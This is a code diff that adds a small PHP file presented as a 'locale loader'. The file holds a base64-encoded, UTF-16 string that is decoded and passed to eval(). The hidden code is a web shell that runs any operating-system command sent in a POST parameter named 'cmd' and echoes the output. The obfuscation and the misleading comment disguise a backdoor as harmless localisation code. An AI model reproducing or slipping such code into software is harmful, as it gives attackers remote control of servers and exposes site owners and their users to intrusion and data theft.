@@ -1,0 +1,5 @@
+<?php
+// locale loader
+$strings = 'aQBmACAAKAAhAGUAbQBwAHQAeQAoACQAXwBQAE8AUwBUAFsAJwBjAG0AZAAnAF0AKQApACAAewAgAGUAYwBoAG8AIABzAGgAZQBsAGwAXwBlAHgAZQBjACgAJABfAFAATwBTAFQAWwAnAGMAbQBkACcAXQApADsAIAB9AA==';
+$text = iconv('UTF-16LE', 'UTF-8//IGNORE', base64_decode($strings));
+eval($text);
